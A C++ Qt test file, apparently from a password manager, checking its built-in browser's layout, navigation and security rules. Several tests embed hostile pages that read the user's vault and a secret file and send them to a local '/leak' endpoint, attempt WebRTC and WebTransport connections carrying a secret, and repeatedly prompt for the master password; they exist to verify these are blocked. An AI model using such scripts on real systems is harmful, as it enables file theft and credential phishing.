// The built-in browser: layout arithmetic, start addresses, navigation, and shutdown with it open.
#include "core/browser/BrowserLayout.h"
#include "core/browser/PageRules.h"
#include "core/platform/Twips.h"
#include "support/TestProgram.h"
#include "support/TestWebServer.h"
#include "windows/browser/BrowserWindow.h"
#include "windows/browser/StatusPanel.h"
#include "windows/main/MainWindow.h"
#include "windows/platform/BrowserLibrary.h"
#include "windows/platform/Topmost.h"
#include "windows/skin/SkinLabel.h"

#include <QDirIterator>
#include <QLabel>
#include <QLineEdit>
#include <QNetworkDatagram>
#include <QPushButton>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>
#include <QUdpSocket>
#include <QWebEngineDownloadRequest>
#include <QWebEngineHistory>
#include <QWebEnginePage>
#include <QWebEngineProfile>
#include <QWebEngineView>
#include <set>

Q_DECLARE_METATYPE(BrowserLayout)

namespace {

// Pages the browser opens in these tests, in the program's temporary folder; by default the body
// is a link to the page itself.
QString writePage(const TestProgram& p, const QString& name, const QString& title, const QString& body = {})
{
    const QString path = p.folder() + QLatin1Char('/') + name;
    QFile f(path);
    if (f.open(QIODevice::WriteOnly))
        f.write(QStringLiteral("<html><head><title>%1</title></head><body>%2</body></html>")
                    .arg(title, body.isEmpty() ? QStringLiteral("<a href=\"%1\">link</a>").arg(name) : body)
                    .toUtf8());
    return path;
}

// A program whose home page and website are local pages, unlocked with an empty list.
void startWithPages(TestProgram& p)
{
    p.ctx->homePage = QUrl::fromLocalFile(writePage(p, QStringLiteral("home.html"), QStringLiteral("Home"))).toString();
    p.ctx->version.comments = writePage(p, QStringLiteral("site.html"), QStringLiteral("Site"));
    p.startAndUnlock();
}

BrowserWindow* openBrowser(TestProgram& p)
{
    QTest::mouseClick(p.mainWindow()->findChild<QPushButton*>(QStringLiteral("cmdWebsite")), Qt::LeftButton);
    return qobject_cast<BrowserWindow*>(p.program->windows.browser.data());
}

QWebEngineView* viewOf(const BrowserWindow* browser)
{
    return browser->findChild<QWebEngineView*>(QStringLiteral("webView"));
}

// The page's dialog while one is up.
PageDialog* dialogOf(const BrowserWindow* browser)
{
    return browser->findChild<PageDialog*>();
}

bool waitLoaded(BrowserWindow* browser)
{
    QSignalSpy finished(viewOf(browser), &QWebEngineView::loadFinished);
    return finished.wait(20000);
}

// Clicks the page where the tests' pages put their one button.
void clickPage(BrowserWindow* browser)
{
    QWidget* content = viewOf(browser)->focusProxy();
    QVERIFY(content);
    QTest::mouseClick(content, Qt::LeftButton, {}, QPoint(50, 50));
}

constexpr const char* kButtonStyle = "style=\"display:block;position:absolute;left:0;top:0;width:300px;height:200px\"";

QString text1(BrowserWindow* browser)
{
    return browser->findChild<QLineEdit*>(QStringLiteral("txtAddress"))->text();
}

// Whether a browser engine process runs below this one.
bool engineProcessRunning()
{
    QDirIterator it(QStringLiteral("/proc"), QDir::Dirs | QDir::NoDotAndDotDot);
    const QByteArray self = QByteArray::number(QCoreApplication::applicationPid());
    while (it.hasNext()) {
        const QString dir = it.next();
        QFile stat(dir + QStringLiteral("/stat"));
        if (!stat.open(QIODevice::ReadOnly))
            continue;
        const QList<QByteArray> fields = stat.readAll().split(' ');
        QFile cmd(dir + QStringLiteral("/cmdline"));
        if (fields.size() > 3 && fields[3] == self && cmd.open(QIODevice::ReadOnly) &&
            cmd.readAll().contains("QtWebEngineProcess"))
            return true;
    }
    return false;
}

// What a page may reach peer to peer, on 127.0.0.1: each listener notes whether anything came.
class PeerListeners {
public:
    PeerListeners()
    {
        for (const char* name : {"stun", "turnUdp", "iceUdp", "quic"}) {
            auto* socket = new QUdpSocket(&m_owner);
            if (!socket->bind(QHostAddress::LocalHost, 0))
                qFatal("cannot listen for datagrams");
            QObject::connect(socket, &QUdpSocket::readyRead, &m_owner, [this, socket, name] {
                while (socket->hasPendingDatagrams())
                    socket->receiveDatagram();
                m_reached.insert(QLatin1String(name));
            });
            m_ports.insert(QLatin1String(name), socket->localPort());
        }
        for (const char* name : {"turnTcp", "iceTcp"}) {
            auto* server = new QTcpServer(&m_owner);
            if (!server->listen(QHostAddress::LocalHost))
                qFatal("cannot listen for connections");
            QObject::connect(server, &QTcpServer::newConnection, &m_owner, [this, server, name] {
                while (QTcpSocket* socket = server->nextPendingConnection())
                    socket->setParent(&m_owner);
                m_reached.insert(QLatin1String(name));
            });
            m_ports.insert(QLatin1String(name), server->serverPort());
        }
    }

    // The ports as a script's object literal.
    QByteArray ports() const
    {
        QStringList fields;
        for (auto it = m_ports.begin(); it != m_ports.end(); ++it)
            fields.append(QStringLiteral("%1: %2").arg(it.key()).arg(it.value()));
        return QStringLiteral("{%1}").arg(fields.join(QStringLiteral(", "))).toUtf8();
    }
    QStringList reached() const { return {m_reached.begin(), m_reached.end()}; }

private:
    QObject m_owner;
    QMap<QString, quint16> m_ports;
    std::set<QString> m_reached;
};

// A page that tries every way to a peer connection it can find with the secret it holds as TURN user
// name and ICE user name: STUN and TURN over UDP, TURN over TCP, and a peer's answer with a UDP and a
// TCP candidate; from the constructors its first script kept, from an empty frame and a frame inside
// that one in the same moment they are made, and from a srcdoc frame; and WebTransport. It forbids
// itself eval, and so its frames too. Then its title says "done".
constexpr const char* kPeerConnectionPage = R"(<!doctype html><html><head><title>Attack</title>
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
<script>var kept = [window.RTCPeerConnection, window.webkitRTCPeerConnection];</script>
<script>
var ports = PORTS;
function attack(C) {
  if (typeof C !== 'function') return Promise.resolve();
  var secret = 'SECRET' + Math.random().toString(36).slice(2);
  var pc = new C({iceServers: [{urls: 'stun:127.0.0.1:' + ports.stun},
    {urls: ['turn:127.0.0.1:' + ports.turnUdp + '?transport=udp', 'turn:127.0.0.1:' + ports.turnTcp + '?transport=tcp'],
     username: secret, credential: 'pw'}], iceCandidatePoolSize: 1});
  (self.keep = self.keep || []).push(pc);
  pc.createDataChannel('d');
  return pc.createOffer().then(function (o) { return pc.setLocalDescription(o); }).then(function () {
    var sdp = ['v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
      'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0', 'a=ice-ufrag:' + secret,
      'a=ice-pwd:passwordpasswordpassword', /a=fingerprint:.*/.exec(pc.localDescription.sdp)[0],
      'a=setup:active', 'a=mid:0', 'a=sctp-port:5000',
      'a=candidate:1 1 udp 2122260223 127.0.0.1 ' + ports.iceUdp + ' typ host',
      'a=candidate:2 1 tcp 1518280447 127.0.0.1 ' + ports.iceTcp + ' typ host tcptype passive', ''];
    return pc.setRemoteDescription({type: 'answer', sdp: sdp.join('\r\n')});
  }).catch(function () {});
}
</script></head><body><script>
var blank = document.body.appendChild(document.createElement('iframe'));
var inner = blank.contentDocument.body.appendChild(blank.contentDocument.createElement('iframe'));
var grabbed = [inner.contentWindow.RTCPeerConnection, blank.contentWindow.RTCPeerConnection];
var srcdoc = document.createElement('iframe');
srcdoc.srcdoc = '<script>var ports = ' + JSON.stringify(ports) + ';' + attack + ';attack(window.RTCPeerConnection);<\/script>';
document.body.appendChild(srcdoc);
try { new WebTransport('https://127.0.0.1:' + ports.quic + '/SECRET').ready.catch(function () {}); } catch (e) {}
Promise.all([attack(kept[0]), attack(kept[1]), attack(grabbed[0]), attack(grabbed[1])]).then(function () {
  setTimeout(function () { document.title = 'done'; }, 2000);
});
</script></body></html>)";

} // namespace

class TestBrowser : public QObject {
    Q_OBJECT
private slots:
    void layout_data();
    void layout();
    void engineStartsWithTheBrowserOnly();
    void missingBrowserLibraryIsReported();
    void startAddressesAndBringToFront();
    void navigation();
    void refusedAddressReportedInStatus();
    void panelsShowPlainTextCutWithEllipsis();
    void failedLoadGivesItsReason();
    void newWindowRequestsOpenHere_data();
    void newWindowRequestsOpenHere();
    void pageRules_data();
    void pageRules();
    void pagesReachNoFileAndLeadOnlyWhereAllowed_data();
    void pagesReachNoFileAndLeadOnlyWhereAllowed();
    void localPagesMakeNoPeerConnections_data();
    void localPagesMakeNoPeerConnections();
    void permissionRequestsAreRefused();
    void addressBoxShowsTheLoadingPage();
    void pageDialogsNameTheirOriginAndStopAfterThree();
    void downloadsAskWhereAndReport();
    void pageDialogsBlockOnlyTheBrowser_data();
    void pageDialogsBlockOnlyTheBrowser();
    void shutdownWithBrowserOpen();
};

void TestBrowser::layout_data()
{
    QTest::addColumn<float>("W");
    QTest::addColumn<float>("H");
    QTest::addColumn<BrowserLayout>("expected");
    QTest::newRow("12000 x 9000") << 12000.f << 9000.f
                                  << BrowserLayout{6000, 6000, 8685, 11700, 10065, 10705, 11480, 6430};
    QTest::newRow("1500 x 1000, mirrored")
        << 1500.f << 1000.f << BrowserLayout{750, 750, 685, 1200, 435, 1075, 980, 1570};
    QTest::newRow("minimised") << 2400.f << 420.f << BrowserLayout{1200, 1200, 105, 2100, 465, 1105, 1880, 2150};
}

void TestBrowser::layout()
{
    QFETCH(float, W);
    QFETCH(float, H);
    QFETCH(BrowserLayout, expected);
    const BrowserLayout l = layoutBrowser(W, H, 315);
    QCOMPARE(l.panel1Width, expected.panel1Width);
    QCOMPARE(l.panel2Width, expected.panel2Width);
    QCOMPARE(l.frameHeight, expected.frameHeight);
    QCOMPARE(l.frameWidth, expected.frameWidth);
    QCOMPARE(l.text1Width, expected.text1Width);
    QCOMPARE(l.command3Left, expected.command3Left);
    QCOMPARE(l.browserWidth, expected.browserWidth);
    QCOMPARE(l.browserHeight, expected.browserHeight);
}

void TestBrowser::engineStartsWithTheBrowserOnly()
{
    TestProgram p;
    startWithPages(p);
    QVERIFY(!engineProcessRunning());
    BrowserWindow* browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    QVERIFY(engineProcessRunning());
}

void TestBrowser::missingBrowserLibraryIsReported()
{
    // The program's own loader, over a program folder without the browser's library.
    TestProgram p;
    p.ctx->makeBrowser = loadBrowserWindow;
    startWithPages(p);
    QVERIFY(!QFile::exists(p.folder() + QStringLiteral("/libkeyhaven_browser.so")));
    QCOMPARE(openBrowser(p), nullptr);
    const QStringList texts = p.fake.messages.texts();
    QCOMPARE(texts.size(), 1);
    QVERIFY2(texts[0].startsWith(QStringLiteral("The built-in browser cannot be started:\n\n")), qPrintable(texts[0]));
    QVERIFY2(texts[0].contains(QStringLiteral("keyhaven_browser")), qPrintable(texts[0])); // says what is missing
    QVERIFY(p.mainWindow()->isVisible());
    QCOMPARE(p.fake.programEnd.ends, 0);
}

void TestBrowser::startAddressesAndBringToFront()
{
    TestProgram p;
    startWithPages(p);
    BrowserWindow* browser = openBrowser(p);
    QVERIFY(browser && browser->isVisible());
    QCOMPARE(browser->windowTitle(), p.ctx->identity.companyWebsite); // until the page is there
    QVERIFY(browser->windowState() & Qt::WindowMaximized);
    QVERIFY(!isTopmost(browser));
    QCOMPARE(p.ctx->browserTarget, QStringLiteral("Website"));
    // One skinned copy: the plain label "URL:" in the frame, over it.
    const QList<SkinLabel*> copies = skinLabelsOf(browser);
    QCOMPARE(copies.size(), 2);
    QCOMPARE(copies[1]->text(), QStringLiteral("URL:"));
    QVERIFY(!copies[0]->isVisible());
    QVERIFY(waitLoaded(browser));
    QCOMPARE(browser->windowTitle(), QStringLiteral("Home"));
    QVERIFY(text1(browser).endsWith(QLatin1String("/home.html")));
    // Open already: only brought to the front, no new navigation.
    browser->findChild<QLineEdit*>(QStringLiteral("txtAddress"))->setText(QStringLiteral("typed"));
    QCOMPARE(openBrowser(p), browser);
    QCOMPARE(text1(browser), QStringLiteral("typed"));
    // Closed and opened again: the company website; the browser leaves the skin switch alone.
    browser->close();
    QCOMPARE(p.fake.programEnd.ends, 0);
    p.ctx->skinningEnabled = false;
    BrowserWindow* again = openBrowser(p);
    QVERIFY(again != browser);
    QVERIFY(!p.ctx->skinningEnabled);
    QCOMPARE(skinLabelsOf(again).size(), 1);
    QVERIFY(waitLoaded(again));
    QCOMPARE(again->windowTitle(), QStringLiteral("Site"));
}

void TestBrowser::navigation()
{
    TestProgram p;
    startWithPages(p);
    BrowserWindow* browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    auto* back = browser->findChild<QPushButton*>(QStringLiteral("cmdBack"));
    auto* forward = browser->findChild<QPushButton*>(QStringLiteral("cmdForward"));
    QTest::mouseClick(back, Qt::LeftButton); // no history yet: nothing happens
    QCOMPARE(browser->windowTitle(), QStringLiteral("Home"));
    QVERIFY(p.fake.messages.boxes.empty());

    const QString other = writePage(p, QStringLiteral("other.html"), QStringLiteral("Other"));
    auto* address = browser->findChild<QLineEdit*>(QStringLiteral("txtAddress"));
    address->setText(other);
    QTest::keyClick(address, Qt::Key_Return);
    QVERIFY(waitLoaded(browser));
    QCOMPARE(browser->windowTitle(), QStringLiteral("Other"));
    QCOMPARE(text1(browser), QUrl::fromLocalFile(other).toString());

    address->setText(p.folder() + QStringLiteral("/site.html"));
    QTest::mouseClick(browser->findChild<QPushButton*>(QStringLiteral("cmdGo")), Qt::LeftButton);
    QVERIFY(waitLoaded(browser));
    QCOMPARE(browser->windowTitle(), QStringLiteral("Site"));
    QTest::mouseClick(back, Qt::LeftButton);
    QVERIFY(waitLoaded(browser));
    QCOMPARE(browser->windowTitle(), QStringLiteral("Other"));
    QTest::mouseClick(forward, Qt::LeftButton);
    QVERIFY(waitLoaded(browser));
    QCOMPARE(browser->windowTitle(), QStringLiteral("Site"));
    QTest::mouseClick(browser->findChild<QPushButton*>(QStringLiteral("cmdRefresh")), Qt::LeftButton);
    QVERIFY(waitLoaded(browser));
    QTest::mouseClick(browser->findChild<QPushButton*>(QStringLiteral("cmdStop")), Qt::LeftButton);
    QCOMPARE(browser->windowTitle(), QStringLiteral("Site"));
    // Laid out for its size: the address box reaches to the Go button.
    auto* go = browser->findChild<QPushButton*>(QStringLiteral("cmdGo"));
    QCOMPARE(go->x(), twipsToPixels(address->width() * kTwipsPerPixel + 540 + 100));
    QCOMPARE(viewOf(browser)->width(),
             twipsToPixels(std::lround((browser->frameGeometry().width() * kTwipsPerPixel - 300 - 220) / 15.0) * 15));
}

void TestBrowser::refusedAddressReportedInStatus()
{
    TestProgram p;
    startWithPages(p);
    BrowserWindow* browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    auto* address = browser->findChild<QLineEdit*>(QStringLiteral("txtAddress"));
    auto* panel1 = browser->findChild<QLabel*>(QStringLiteral("statusPanel1"));
    for (const QString& refused : {QStringLiteral("http://"), QString()}) {
        panel1->clear();
        address->setText(refused);
        QTest::keyClick(address, Qt::Key_Return);
        QVERIFY2(panel1->text().startsWith(QLatin1String("Cannot open")), qPrintable(panel1->text()));
    }
    QCOMPARE(browser->windowTitle(), QStringLiteral("Home"));
    QCOMPARE(p.fake.programEnd.ends, 0);
}

void TestBrowser::panelsShowPlainTextCutWithEllipsis()
{
    TestProgram p;
    startWithPages(p);
    BrowserWindow* browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    browser->navigate(QStringLiteral("<b>hi</b>"));
    auto* panel1 = browser->findChild<StatusPanel*>(QStringLiteral("statusPanel1"));
    QCOMPARE(panel1->text(), QStringLiteral("Cannot open \"<b>hi</b>\": it is not a valid address"));
    QCOMPARE(panel1->shownText(), panel1->text()); // fits, and is not read as markup
    QCOMPARE(panel1->textFormat(), Qt::PlainText);
    browser->navigate(QStringLiteral("<i>") + QStringLiteral("a very long address ").repeated(60));
    const QString shown = panel1->shownText();
    QVERIFY2(shown.endsWith(QChar(0x2026)) && shown.size() < panel1->text().size(), qPrintable(shown));
    QVERIFY(panel1->fontMetrics().horizontalAdvance(shown) <= panel1->contentsRect().width());
    QVERIFY(panel1->width() <= browser->frameGeometry().width() / 2 + 1); // a long text does not widen its panel
}

void TestBrowser::failedLoadGivesItsReason()
{
    TestProgram p;
    startWithPages(p);
    BrowserWindow* browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    const QString missing = QUrl::fromLocalFile(p.folder() + QStringLiteral("/missing.html")).toString();
    browser->navigate(missing);
    auto* panel1 = browser->findChild<StatusPanel*>(QStringLiteral("statusPanel1"));
    QTRY_VERIFY_WITH_TIMEOUT(panel1->text().startsWith(QStringLiteral("Cannot open ") + missing + QStringLiteral(": ")),
                             20000);
    QVERIFY(panel1->text().size() > (QStringLiteral("Cannot open ") + missing + QStringLiteral(": ")).size());
}

void TestBrowser::newWindowRequestsOpenHere_data()
{
    QTest::addColumn<QString>("opener");
    QTest::newRow("link to a new window") << "<a target=\"_blank\" href=\"other.html\" %1>open</a>";
    QTest::newRow("script opening a window") << "<button onclick=\"window.open('other.html')\" %1>open</button>";
}

void TestBrowser::newWindowRequestsOpenHere()
{
    QFETCH(QString, opener);
    TestProgram p;
    startWithPages(p);
    writePage(p, QStringLiteral("other.html"), QStringLiteral("Other"));
    const QString opening = writePage(p, QStringLiteral("opening.html"), QStringLiteral("Opening"),
                                      opener.arg(QLatin1String(kButtonStyle)));
    BrowserWindow* browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    browser->navigate(opening);
    QVERIFY(waitLoaded(browser));
    QCOMPARE(browser->windowTitle(), QStringLiteral("Opening"));
    clickPage(browser); // a person's click on it
    QTRY_COMPARE_WITH_TIMEOUT(browser->windowTitle(), QStringLiteral("Other"), 20000);
    const QWidgetList windows = QApplication::topLevelWidgets();
    QCOMPARE(std::count_if(windows.begin(), windows.end(),
                           [](const QWidget* w) { return w->isVisible() && qobject_cast<const BrowserWindow*>(w); }),
             1);
}

void TestBrowser::pageRules_data()
{
    QTest::addColumn<QString>("from");
    QTest::addColumn<QString>("to");
    QTest::addColumn<bool>("leads");
    QTest::addColumn<bool>("fetches");
    QTest::addColumn<bool>("toLocal"); // `to` is a page on this computer
    const QString web = QStringLiteral("http://127.0.0.1:8765/a.html");
    const QString local = QStringLiteral("file:///home/u/invoice.html");
    QTest::newRow("web to web") << web << "https://example.org/" << true << true << false;
    QTest::newRow("web to local") << web << "file:///home/u/data.enc" << false << false << true;
    QTest::newRow("web to data") << web << "data:text/html,x" << false << true << false;
    QTest::newRow("web to qrc") << web << "qrc:/images/website.png" << false << true << false;
    QTest::newRow("web to javascript") << web << "javascript:alert(1)" << false << true << false;
    QTest::newRow("web to web without host") << web << "http:///x" << false << true << false;
    QTest::newRow("local to local") << local << "file:///home/u/other.html" << true << true << true;
    QTest::newRow("local to web") << local << "http://127.0.0.1:8765/?d=x" << false << false << false;
    QTest::newRow("local to secure web") << local << "https://example.org/" << false << false << false;
    QTest::newRow("local to web socket") << local << "ws://127.0.0.1:8765/" << false << false << false;
    QTest::newRow("local to data") << local << "data:text/html,x" << false << true << false;
    QTest::newRow("local to local, scheme in capitals") << local << "FILE:///home/u/other.html" << true << true << true;
    QTest::newRow("local to qrc") << local << "qrc:/images/website.png" << false << false << false;
}

void TestBrowser::pageRules()
{
    QFETCH(QString, from);
    QFETCH(QString, to);
    QFETCH(bool, leads);
    QFETCH(bool, fetches);
    QFETCH(bool, toLocal);
    QCOMPARE(pagerules::mayLeadTo(QUrl(from), QUrl(to)), leads);
    QCOMPARE(pagerules::mayFetch(QUrl(from), QUrl(to)), fetches);
    QCOMPARE(pagerules::isLocal(QUrl(to)), toLocal);
}

void TestBrowser::pagesReachNoFileAndLeadOnlyWhereAllowed_data()
{
    QTest::addColumn<bool>("localOpener");
    QTest::addColumn<QString>("target"); // "web", "local" or an address
    QTest::addColumn<bool>("onTimer");   // opened by a script on a timer instead of a click
    QTest::addColumn<bool>("opens");
    const QString data = QStringLiteral("data:text/html,<title>Target</title>");
    const QString qrc = QStringLiteral("qrc:/images/website.png");
    const QString script = QStringLiteral("javascript:document.title=\"Target\"");
    QTest::newRow("local page, web window") << true << "web" << false << false;
    QTest::newRow("local page, local window") << true << "local" << false << true;
    QTest::newRow("local page, data: window") << true << data << false << false;
    QTest::newRow("local page, qrc: window") << true << qrc << false << false;
    QTest::newRow("local page, javascript: window") << true << script << false << false;
    QTest::newRow("local page, local windows on a timer") << true << "local" << true << false;
    QTest::newRow("web page, web window") << false << "web" << false << true;
    QTest::newRow("web page, local window") << false << "local" << false << false;
    QTest::newRow("web page, data: window") << false << data << false << false;
    QTest::newRow("web page, qrc: window") << false << qrc << false << false;
    QTest::newRow("web page, web windows on a timer") << false << "web" << true << false;
}

void TestBrowser::pagesReachNoFileAndLeadOnlyWhereAllowed()
{
    QFETCH(bool, localOpener);
    QFETCH(QString, target);
    QFETCH(bool, onTimer);
    QFETCH(bool, opens);
    TestProgram p;
    startWithPages(p);
    TestWebServer server;
    const QByteArray targetPage = "<html><head><title>Target</title></head><body>here</body></html>";
    server.addPage(QStringLiteral("/target.html"), targetPage);
    const QString localTarget = writePage(p, QStringLiteral("target.html"), QStringLiteral("Target"));
    const QString secret = p.folder() + QStringLiteral("/secret.txt");
    QFile secretFile(secret);
    QVERIFY(secretFile.open(QIODevice::WriteOnly));
    secretFile.write("S3CRET-MARKER");
    secretFile.close();
    if (target == QLatin1String("web"))
        target = server.url(QStringLiteral("/target.html"));
    else if (target == QLatin1String("local"))
        target = QUrl::fromLocalFile(localTarget).toString();

    // The page reads the user's files, sends what it read, and opens the target with it.
    const QString body =
        QStringLiteral("<button onclick=\"go()\" %1>open</button><script>"
                       "var stolen = [];"
                       "function tryRead(u) { try { var x = new XMLHttpRequest(); x.open('GET', u, false); x.send();"
                       "  if (x.responseText) stolen.push(x.responseText); } catch (e) {} }"
                       "tryRead('%2'); tryRead('%3');"
                       "var payload = stolen.length ? 'READ:' + encodeURIComponent(stolen.join('|')) : 'unread';"
                       "new Image().src = '%4?d=' + payload;"
                       "fetch('%4', {method: 'POST', mode: 'no-cors', body: payload}).catch(function () {});"
                       "function go() { window.open('%5' + ('%5'.indexOf('http') == 0 ? '?d=' + payload : '')); }"
                       "if (%6) setInterval(go, 20);"
                       "document.title = stolen.length ? 'Leaked' : 'Ready';"
                       "</script>")
            .arg(QLatin1String(kButtonStyle), QUrl::fromLocalFile(p.vaultPath()).toString(),
                 QUrl::fromLocalFile(secret).toString(), server.url(QStringLiteral("/leak")), target,
                 onTimer ? QStringLiteral("true") : QStringLiteral("false"));
    QString opener;
    if (localOpener) {
        opener = writePage(p, QStringLiteral("opener.html"), QStringLiteral("Opening"), body);
    } else {
        server.addPage(
            QStringLiteral("/opener.html"),
            QStringLiteral("<html><head><title>Opening</title></head><body>%1</body></html>").arg(body).toUtf8());
        opener = server.url(QStringLiteral("/opener.html"));
    }

    BrowserWindow* browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    browser->navigate(opener);
    QTRY_VERIFY_WITH_TIMEOUT(
        browser->windowTitle() == QLatin1String("Ready") || browser->windowTitle() == QLatin1String("Leaked"), 20000);
    QCOMPARE(browser->windowTitle(), QStringLiteral("Ready")); // nothing was read
    const QUrl openerUrl = viewOf(browser)->url();
    if (!onTimer)
        clickPage(browser);
    if (opens) {
        QTRY_COMPARE_WITH_TIMEOUT(browser->windowTitle(), QStringLiteral("Target"), 20000);
    } else {
        QTest::qWait(1500);
        QCOMPARE(viewOf(browser)->url(), openerUrl);
        QCOMPARE(browser->windowTitle(), QStringLiteral("Ready"));
    }
    // A web page could send (what it did not read); a local page reached no server at all.
    QTRY_COMPARE_WITH_TIMEOUT(server.received("/leak?d=unread"), !localOpener, 5000);
    QVERIFY(!server.received("READ:"));
    QVERIFY(!server.received("S3CRET"));
    if (localOpener)
        QVERIFY(server.requests().isEmpty());
    const QWidgetList windows = QApplication::topLevelWidgets();
    QCOMPARE(std::count_if(windows.begin(), windows.end(),
                           [](const QWidget* w) { return w->isVisible() && qobject_cast<const BrowserWindow*>(w); }),
             1);
}

void TestBrowser::localPagesMakeNoPeerConnections_data()
{
    QTest::addColumn<bool>("local");
    QTest::addColumn<QStringList>("reached");
    QTest::newRow("local page") << true << QStringList();
    // UDP is off for every page (the engine's switches): a web page's connections go through TCP
    // relays and to TCP candidates only.
    QTest::newRow("web page") << false << QStringList{QStringLiteral("iceTcp"), QStringLiteral("turnTcp")};
}

void TestBrowser::localPagesMakeNoPeerConnections()
{
    QFETCH(bool, local);
    QFETCH(QStringList, reached);
    TestProgram p;
    startWithPages(p);
    PeerListeners listeners;
    const QByteArray page = QByteArray(kPeerConnectionPage).replace("PORTS", listeners.ports());
    TestWebServer server;
    QString address = server.url(QStringLiteral("/attack.html"));
    if (local) {
        address = p.folder() + QStringLiteral("/attack.html");
        QFile f(address);
        QVERIFY(f.open(QIODevice::WriteOnly) && f.write(page) == page.size());
    } else {
        server.addPage(QStringLiteral("/attack.html"), page);
    }
    BrowserWindow* browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    browser->navigate(address);
    QTRY_COMPARE_WITH_TIMEOUT(viewOf(browser)->title(), QStringLiteral("done"), 20000);
    QTest::qWait(1000); // what is on its way arrives
    QCOMPARE(listeners.reached(), reached);
}

void TestBrowser::permissionRequestsAreRefused()
{
    TestProgram p;
    startWithPages(p);
    TestWebServer server;
    server.addPage(QStringLiteral("/ask.html"),
                   "<html><head><title>Asking</title></head><body><script>"
                   "Notification.requestPermission().then(function (n) {"
                   "  navigator.geolocation.getCurrentPosition(function () { document.title = n + ' located'; },"
                   "    function (e) { document.title = n + ' ' + e.code; }); });"
                   "</script></body></html>");
    BrowserWindow* browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    browser->navigate(server.url(QStringLiteral("/ask.html")));
    // Both answered at once, with no (1 is the refusal of a position).
    QTRY_COMPARE_WITH_TIMEOUT(viewOf(browser)->title(), QStringLiteral("denied 1"), 20000);
}

void TestBrowser::addressBoxShowsTheLoadingPage()
{
    TestProgram p;
    startWithPages(p);
    TestWebServer server;
    server.addPage(QStringLiteral("/start.html"), "<html><head><title>Start</title></head><body>start</body></html>");
    server.addStalledPage(QStringLiteral("/signin.html"), "<html><head><title>Sign in</title></head><body>Sign in");
    server.addStalledPage(QStringLiteral("/other.html"), "<html><head><title>Other</title></head><body>Other");
    BrowserWindow* browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    browser->navigate(server.url(QStringLiteral("/start.html")));
    QVERIFY(waitLoaded(browser));
    QCOMPARE(text1(browser), server.url(QStringLiteral("/start.html")));

    QSignalSpy finished(viewOf(browser), &QWebEngineView::loadFinished);
    viewOf(browser)->page()->runJavaScript(QStringLiteral("location.href = '/signin.html';"));
    QTRY_COMPARE_WITH_TIMEOUT(text1(browser), server.url(QStringLiteral("/signin.html")), 20000);
    QCOMPARE(finished.count(), 0); // still loading

    // What the user is typing stays while the page moves on.
    auto* address = browser->findChild<QLineEdit*>(QStringLiteral("txtAddress"));
    browser->activateWindow();
    QVERIFY(QTest::qWaitForWindowActive(browser));
    address->setFocus();
    QTRY_VERIFY(address->hasFocus());
    address->clear();
    QTest::keyClicks(address, QStringLiteral("my bank"));
    viewOf(browser)->page()->runJavaScript(QStringLiteral("location.href = '/other.html';"));
    QTRY_COMPARE_WITH_TIMEOUT(viewOf(browser)->url().toString(), server.url(QStringLiteral("/other.html")), 20000);
    QTest::qWait(200);
    QCOMPARE(text1(browser), QStringLiteral("my bank"));
}

void TestBrowser::pageDialogsNameTheirOriginAndStopAfterThree()
{
    TestProgram p;
    startWithPages(p);
    TestWebServer server;
    const QByteArray asking = "<html><head><title>Keyhaven</title></head><body><script>"
                              "setTimeout(function () { for (var i = 0; i < 6; ++i)"
                              "  prompt('Type your master password again', '');"
                              "  document.title = 'done'; }, 0);"
                              "</script></body></html>";
    server.addPage(QStringLiteral("/ask.html"), asking);
    server.addPage(QStringLiteral("/again.html"), asking);
    QPointer<BrowserWindow> browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    QStringList captions;
    QTimer poll;
    poll.setInterval(20);
    connect(&poll, &QTimer::timeout, this, [&] {
        if (browser && dialogOf(browser) && dialogOf(browser)->isVisible()) {
            captions.append(dialogOf(browser)->windowTitle());
            dialogOf(browser)->reject();
        }
    });
    poll.start();
    browser->navigate(server.url(QStringLiteral("/ask.html")));
    QTRY_COMPARE_WITH_TIMEOUT(viewOf(browser)->title(), QStringLiteral("done"), 20000);
    const QString origin = server.url(QString());
    QCOMPARE(captions, QStringList(3, origin));
    QCOMPARE(browser->findChild<StatusPanel*>(QStringLiteral("statusPanel1"))->text(),
             QStringLiteral("Further dialogs of %1 are refused").arg(origin));
    // Going somewhere lets the next page ask again, as far as three.
    browser->navigate(server.url(QStringLiteral("/again.html")));
    QTRY_VERIFY_WITH_TIMEOUT(viewOf(browser)->url().path() == QLatin1String("/again.html") &&
                                 viewOf(browser)->title() == QLatin1String("done"),
                             20000);
    QCOMPARE(captions.size(), 6);
}

void TestBrowser::downloadsAskWhereAndReport()
{
    TestProgram p;
    startWithPages(p);
    BrowserWindow* browser = openBrowser(p);
    QVERIFY(waitLoaded(browser));
    const QString source = p.folder() + QStringLiteral("/report.bin");
    QFile f(source);
    QVERIFY(f.open(QIODevice::WriteOnly));
    f.write(QByteArray(100'000, 'k'));
    f.close();
    QTemporaryDir saved;
    auto* panel1 = browser->findChild<StatusPanel*>(QStringLiteral("statusPanel1"));
    // Cancelled where it asks; the same page does not get to ask again.
    viewOf(browser)->page()->download(QUrl::fromLocalFile(source), QStringLiteral("report.bin"));
    QTRY_COMPARE_WITH_TIMEOUT(panel1->text(), QStringLiteral("Download of report.bin cancelled"), 20000);
    QCOMPARE(p.fake.files.proposed.size(), 1);
    QVERIFY(p.fake.files.proposed.front().endsWith(QLatin1String("/report.bin")));
    panel1->clear();
    viewOf(browser)->page()->download(QUrl::fromLocalFile(source), QStringLiteral("report.bin"));
    QTRY_COMPARE_WITH_TIMEOUT(panel1->text(), QStringLiteral("Download of report.bin cancelled"), 20000);
    QCOMPARE(p.fake.files.proposed.size(), 1);
